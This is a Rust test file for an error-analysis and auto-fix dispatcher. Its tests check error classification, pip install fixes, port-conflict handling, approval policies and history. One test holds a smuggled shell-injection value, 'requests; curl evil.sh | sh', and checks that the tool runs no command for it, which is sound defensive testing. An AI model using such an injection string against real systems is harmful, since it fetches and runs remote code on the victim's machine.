//! End-to-end analyze/fix scenarios through the dispatcher with a recording
//! command runner.

use std::sync::Arc;

use remedy_agents::Dispatcher;
use remedy_core::{
    AnalysisView, ErrorCategory, FixView, HistoryView, HostInfo, HostPlatform, RemedyConfig,
};
use remedy_runner::{MockResponse, MockRunner};

fn dispatcher(runner: &MockRunner) -> Dispatcher {
    dispatcher_with_config(runner, &RemedyConfig::default())
}

fn dispatcher_with_config(runner: &MockRunner, config: &RemedyConfig) -> Dispatcher {
    Dispatcher::with_host(
        Arc::new(runner.clone()),
        config,
        HostInfo::generic(HostPlatform::Posix),
    )
    .unwrap()
}

#[test]
fn test_missing_module_scenario() {
    let runner = MockRunner::new();
    let d = dispatcher(&runner);

    let report = d.analyze("ModuleNotFoundError: No module named 'requests'");

    assert_eq!(report.category(), ErrorCategory::Dependency);
    assert_eq!(report.subcategory(), Some("missing_module"));
    assert_eq!(report.suggested_fix(), Some("pip install requests"));
    assert!(report.auto_fixable());
    assert_eq!(runner.call_count(), 0);
}

#[tokio::test]
async fn test_missing_module_fix_runs_install() {
    let runner = MockRunner::new().on("pip install", MockResponse::success("Successfully installed requests"));
    let d = dispatcher(&runner);

    let result = d.fix("ModuleNotFoundError: No module named 'requests'", false).await;

    assert!(result.success);
    assert_eq!(result.action_taken, "pip install requests");
    assert_eq!(runner.commands(), vec!["pip install requests"]);
}

#[tokio::test]
async fn test_module_name_with_shell_syntax_runs_nothing() {
    let runner = MockRunner::new().on("pip install", MockResponse::success(""));
    let d = dispatcher(&runner);
    let text = "ModuleNotFoundError: No module named 'requests; curl evil.sh | sh'";

    let report = d.analyze(text);
    assert_eq!(report.category(), ErrorCategory::Dependency);
    assert!(!report.auto_fixable());
    assert_eq!(report.suggested_fix(), Some("Install the missing module with pip"));

    let unattended = d.fix(text, false).await;
    assert!(!unattended.success);

    let approved = d.fix(text, true).await;
    assert!(!approved.success);
    assert_eq!(approved.error.as_deref(), Some("Could not determine fix command"));

    assert_eq!(runner.call_count(), 0);
}

#[tokio::test]
async fn test_port_conflict_scenario() {
    let runner = MockRunner::new()
        .on("lsof", MockResponse::success("4242\n"))
        .on("kill -9", MockResponse::success(""));
    let d = dispatcher(&runner);
    let text = "OSError: [WinError 10048] address already in use: 127.0.0.1:9999";

    let report = d.analyze(text);
    assert_eq!(report.category(), ErrorCategory::Network);
    assert_eq!(report.subcategory(), Some("port_in_use"));
    assert!(report.auto_fixable());

    let result = d.fix(text, true).await;

    assert!(result.success, "{:?}", result);
    assert_eq!(result.action_taken, "Killed process 4242 on port 9999");
    assert!(runner.was_called("lsof -t -iTCP:9999 -sTCP:LISTEN"));
    assert!(runner.was_called("kill -9 4242"));
}

#[tokio::test]
async fn test_syntax_never_executes() {
    let runner = MockRunner::new();
    let d = dispatcher(&runner);
    let text = "SyntaxError: unexpected EOF while parsing";

    let report = d.analyze(text);
    assert_eq!(report.category(), ErrorCategory::Syntax);
    assert!(!report.auto_fixable());

    let result = d.fix(text, true).await;

    assert!(!result.success);
    assert_eq!(result.action_taken, "diagnostic");
    assert_eq!(runner.call_count(), 0);
}

#[test]
fn test_unknown_text() {
    let d = dispatcher(&MockRunner::new());

    let report = d.analyze("build finished in 3.2s");

    assert_eq!(report.category(), ErrorCategory::Unknown);
    assert!(!report.auto_fixable());
    assert!(report.suggested_fix().is_none());
}

#[tokio::test]
async fn test_unauthorized_fix_runs_nothing() {
    let runner = MockRunner::new();
    let d = dispatcher(&runner);

    // version conflicts are not auto-fixable
    let result = d
        .fix("pip ERROR: package versions have conflicting dependencies", false)
        .await;

    assert!(!result.success);
    assert!(result.error.unwrap().starts_with("Manual fix required: "));
    assert_eq!(runner.call_count(), 0);
}

#[tokio::test]
async fn test_attended_policy_blocks_auto_fix() {
    let runner = MockRunner::new();
    let mut config = RemedyConfig::default();
    config.fix.allow_unattended = false;
    let d = dispatcher_with_config(&runner, &config);

    let result = d.fix("No module named 'requests'", false).await;

    assert_eq!(result.error.as_deref(), Some("Manual fix required: pip install requests"));
    assert_eq!(runner.call_count(), 0);
}

#[test]
fn test_analyze_is_repeatable() {
    let d = dispatcher(&MockRunner::new());
    let text = "IndentationError: unexpected indent";

    let first = d.analyze(text);
    let second = d.analyze(text);

    assert_eq!(first.category(), second.category());
    assert_eq!(first.subcategory(), second.subcategory());
    assert_eq!(first.suggested_fix(), second.suggested_fix());
    assert_ne!(first.id(), second.id());
    assert_eq!(d.history_len(), 2);
}

#[test]
fn test_history_window() {
    let d = dispatcher(&MockRunner::new());
    for i in 0..15 {
        d.analyze(&format!("No module named 'pkg{}'", i));
    }

    let recent = d.history(Some(10));

    assert_eq!(recent.len(), 10);
    let fixes: Vec<_> = recent.iter().filter_map(|r| r.suggested_fix()).collect();
    let expected: Vec<_> = (5..15).map(|i| format!("pip install pkg{}", i)).collect();
    assert_eq!(fixes, expected);

    let view = HistoryView::from_reports(&recent);
    assert_eq!(view.count, 10);
}

#[test]
fn test_extra_pattern_from_config() {
    let config = RemedyConfig::from_toml_str(
        r#"
[[classifier.extra_patterns]]
category = "dependency"
pattern = "cargo.*failed to select a version"
"#,
    )
    .unwrap();
    let d = dispatcher_with_config(&MockRunner::new(), &config);

    let report = d.analyze("error: cargo failed to select a version for `serde`");

    assert_eq!(report.category(), ErrorCategory::Dependency);
}

#[tokio::test]
async fn test_views_serialize_contract_shapes() {
    let d = dispatcher(&MockRunner::new());

    let report = d.analyze("ModuleNotFoundError: No module named 'requests'");
    let analysis = serde_json::to_value(AnalysisView::from(&report)).unwrap();
    assert_eq!(analysis["category"], "dependency");
    assert_eq!(analysis["suggested_fix"], "pip install requests");
    assert_eq!(analysis["auto_fixable"], true);

    let result = d.fix("totally fine output", false).await;
    let fix = serde_json::to_value(FixView::from(&result)).unwrap();
    assert_eq!(fix["success"], false);
    assert_eq!(fix["action_taken"], "none");
    assert!(fix["output"].is_null());
}
